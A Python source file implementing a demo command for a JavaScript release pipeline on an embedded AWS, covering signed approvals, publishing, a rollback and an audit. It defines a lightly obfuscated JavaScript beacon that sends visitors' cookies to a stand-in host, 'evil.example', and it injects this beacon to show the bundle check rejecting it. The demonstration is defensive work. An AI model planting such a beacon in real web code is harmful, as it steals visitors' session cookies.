"""release demo: the whole pipeline on an embedded AWS, told in plain words."""

import sys
import tempfile
import textwrap
import threading
import time
from pathlib import Path
from typing import Annotated

import typer

from release.adapters import resources
from release.commands.demo_world import Actor, World, embedded_world
from release.core.approval import digest
from release.core.epochs import read_signed
from release.errors import CheckError, IntegrityError, PermissionDenied, RefusedError

EXAMPLE = "visitor-tag"
FROM_NPM = "web-vitals"
FROM_NPM_VERSION = "6.2.3"
BEACON = b"""
const to = ["evil", "example"].join(".");
addEventListener("pagehide", () => navigator["send" + "Beacon"](`//${to}/v`, document.cookie));
"""


def demo(
    directory: Annotated[
        Path | None, typer.Option(help="Where to put the demo's files; default: a new temporary folder.")
    ] = None,
    *,
    serve: Annotated[bool, typer.Option("--serve", help="Keep the embedded AWS running until Ctrl-C.")] = False,
) -> None:
    """Run the whole pipeline on an embedded AWS: no account, nothing is sent anywhere but to npm.

    Two releases of a small library, each approved with an SSH key that is made for it, a bundle that is
    rejected, one of a real library from npm, an attempt with the wrong key, an attempt to change published
    bytes, a rollback, and at the end the release log and an audit of everything.
    """
    started = time.monotonic()
    folder = (directory or Path(tempfile.mkdtemp(prefix="release-demo-"))).absolute()
    with embedded_world(folder) as world:
        tag = _install(world)
        _trust(tag)
        _first_release(tag)
        _smuggled(tag)
        _second_release(tag)
        _real_library(world)
        _attacks(tag)
        _rollback(tag)
        _look(tag)
        _next_steps(tag, seconds=time.monotonic() - started, serving=serve)
        if serve:
            _wait()


def _install(world: World) -> Actor:
    from release.adapters.embedded.samples import SampleLibrary  # noqa: PLC0415

    _title(
        "Set up",
        "An S3 server with IAM, a CloudFront API and a caching edge run inside this process. A human with"
        " the administrator's key creates one key per stage; from here on nobody uses that key again.",
    )
    library = SampleLibrary(world.folder / EXAMPLE, world.environment)
    files = resources.example(EXAMPLE)
    own = files["release.toml"]
    files["release.toml"] = world.release_toml(EXAMPLE) + b"\n" + own[own.index(b"[domains]") :]
    library.start(files, message="feat: collect page views and personalise by segment")
    actor = Actor(world=world, library=library, name=EXAMPLE)
    actor.provision()
    return actor


def _trust(tag: Actor) -> None:
    """Let one person, who neither writes nor runs anything, approve every release."""
    from release.adapters.embedded.samples import ssh_key, trust_toml  # noqa: PLC0415

    _title(
        "Who approves",
        "Releases need a person's signature, made with an SSH key that no pipeline has. Who that is stands in the log"
        " bucket, signed; release.toml pins it.",
    )
    folder = tag.world.folder
    line = ssh_key(tag.approver, tag.world.environment)
    (folder / "trust.toml").write_bytes(trust_toml(line))
    tag.run("audit", "trust", "propose", str(folder / "trust.toml"))
    tag.run("audit", "trust", "sign", "--yes", "--key", str(tag.approver))
    tag.run_as_admin("trust", "apply")
    signed, _ = read_signed(tag.library.read(".release/trust.json"), name="trust.json")
    toml = tag.library.read("release.toml").replace(b"required = false", f'trust = "{digest(signed.trust)}"'.encode())
    tag.library.commit({"release.toml": toml}, message="chore: releases need approval")


def _first_release(tag: Actor) -> None:
    _title("Release 1.0.0", "A tag push starts these commands in GitLab, one a job, each with its own key or none.")
    tag.run(None, "changelog", "1.0.0")
    tag.library.commit({}, message="chore: changelog of 1.0.0")
    tag.library.tag("v1.0.0")
    _pipeline(tag)


def _smuggled(tag: Actor) -> None:
    _title(
        "A bundle that is rejected",
        "Somebody's change sends what visitors do to a host that nobody authorised, and hides it a little.",
    )
    honest = tag.library.read("src/index.js")
    tag.library.commit({"src/index.js": honest + BEACON}, message="chore: tidy up")
    tag.run(None, "build", "--snapshot")
    tag.run(None, "check", expect=CheckError.exit_code)
    tag.library.commit({"src/index.js": honest}, message="chore: take it back")


def _second_release(tag: Actor) -> None:
    _title("Release 1.1.0", "A feature is committed. The next version comes from the commits, not from a meeting.")
    source = tag.library.read("src/index.js") + b'\nexport const version = "1.1.0";\n'
    tag.library.commit({"src/index.js": source}, message="feat: tell its own version")
    tag.run(None, "next")
    tag.run(None, "changelog", "1.1.0")
    tag.library.set_version("1.1.0")
    tag.library.commit({}, message="chore: version 1.1.0")
    tag.library.tag("v1.1.0")
    _pipeline(tag)


def _real_library(world: World) -> None:
    from release.adapters.embedded.samples import SampleLibrary, from_npm  # noqa: PLC0415

    _title(
        f"A real library: {FROM_NPM} {FROM_NPM_VERSION} from npm",
        "Same bucket, same distribution, own prefix, own log, own five keys.",
    )
    library = SampleLibrary(world.folder / FROM_NPM, world.environment)
    files = from_npm(FROM_NPM, FROM_NPM_VERSION)
    files["release.toml"] = world.release_toml(FROM_NPM)
    library.start(files, message=f"feat: bundle {FROM_NPM} {FROM_NPM_VERSION}")
    library.lock()
    library.commit({}, message="chore: lock the dependencies")
    library.tag(f"v{FROM_NPM_VERSION}")
    actor = Actor(world=world, library=library, name=FROM_NPM)
    actor.provision()
    _pipeline(actor)


def _pipeline(actor: Actor) -> None:
    actor.run(None, "build")
    actor.run(None, "check")
    actor.run("publish", "publish")
    actor.run("record", "record", "publish")
    if actor.approver.exists():
        actor.run("record", "record", "promote", expect=RefusedError.exit_code)
        actor.run("audit", "request")
        actor.run("audit", "approve", "--yes", "--key", str(actor.approver))
    actor.run("record", "record", "promote")
    actor.run("promote", "promote")
    actor.run("invalidate", "invalidate")
    actor.run(None, "verify")
    actor.run("record", "record", "outcome")


def _attacks(tag: Actor) -> None:
    _title(
        "What must not work",
        "The publish stage with another stage's key; then other bytes under a version that is published.",
    )
    tag.run("invalidate", "publish", expect=PermissionDenied.exit_code)
    manifest = tag.library.folder / "dist" / "manifest.json"
    honest = manifest.read_bytes()
    manifest.write_bytes(honest.replace(b'"commitTime":', b'"commitTime":1'))
    tag.run("publish", "publish", expect=IntegrityError.exit_code)
    manifest.write_bytes(honest)


def _rollback(tag: Actor) -> None:
    _title(
        "Roll back",
        "1.1.0 turns out bad. Going back is the same machine with an older version: no build, nothing uploaded.",
    )
    tag.run_with_all_keys("rollback", "latest", "--reason", "demo: 1.1.0 breaks checkout pages")


def _look(tag: Actor) -> None:
    _title("Look", "What every channel serves now, the log that says how it came to this, and an audit of everything.")
    tag.run("audit", "status")
    tag.run("audit", "log", "list")
    tag.run("audit", "audit")


def _next_steps(tag: Actor, *, seconds: float, serving: bool) -> None:
    world = tag.world
    _title(f"Done in {seconds:.0f} s", f"All files are in {world.folder}: the libraries, their CHANGELOG.md, dist/.")
    lines = ["In your own library's folder:", "  release init               # writes release.toml from package.json"]
    lines += ["  release next               # the next version from your commits", "  release build --snapshot   #"]
    lines[-1] += " the bundle and its manifest, without a tag"
    lines += ["  release keys render        # the policies to review before anything else"]
    if serving:
        lines += ["", "The embedded AWS is still running. In another terminal:"]
        lines += [f"  cd {tag.library.folder}", f"  export AWS_ENDPOINT_URL={world.environment['AWS_ENDPOINT_URL']}"]
        lines += [f"  export RELEASE_KEYS={world.keys}", "  release status", "  release log show 0"]
        lines += [f"  curl -i {world.settings['url']}/{EXAMPLE}/latest/{EXAMPLE}.min.js", "", "Ctrl-C ends it."]
    else:
        lines += ["", "To try commands against this embedded AWS yourself: release demo --serve"]
    typer.echo("\n".join(f"   {line}".rstrip() for line in lines))


def _title(title: str, text: str) -> None:
    typer.echo(f"\n== {title}")
    typer.echo(textwrap.fill(text, width=100, initial_indent="   ", subsequent_indent="   "))
    sys.stdout.flush()


def _wait() -> None:
    try:
        threading.Event().wait()
    except KeyboardInterrupt:
        typer.echo("ended")
